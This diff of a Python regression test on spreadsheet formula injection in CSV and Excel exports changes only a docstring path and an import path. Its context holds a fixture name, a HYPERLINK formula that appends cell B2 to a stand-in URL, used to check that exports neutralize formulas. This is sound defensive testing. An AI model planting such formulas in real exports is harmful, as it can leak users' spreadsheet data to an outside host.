@@ -3,7 +3,7 @@ was written as a live formula by every listing's CSV export. Every export path �
 each admin listing's CSV and Excel export (found through the registered viewsets,
 not a hand-kept list), Wagtail's own reports, and the workbooks built with
 `frame_to_xlsx` — now writes it as text; an exported file imports back to the
-original name (that round trip: tests/test_trust_import_limits.py).
+original name (that round trip: tests/core/test_import_limits.py).
 
 Why the earlier tests missed it: `test_fuzz_imports.test_exported_text_never_becomes
 _a_formula` covered `frame_to_xlsx` only (the ranking, review and roll-up workbooks);
@@ -25,7 +25,7 @@ from openpyxl import load_workbook
 
 from core.spreadsheets import is_formula_like, neutralize_formula
 from incubator.models import Organization
-from tests.permission_world import SUPERUSER, build_world
+from tests.support.permission_world import SUPERUSER, build_world
 
 NAME = '=HYPERLINK("http://x.invalid/?"&B2,"详情")'
 # Text columns that are keys or codes, left as they are.
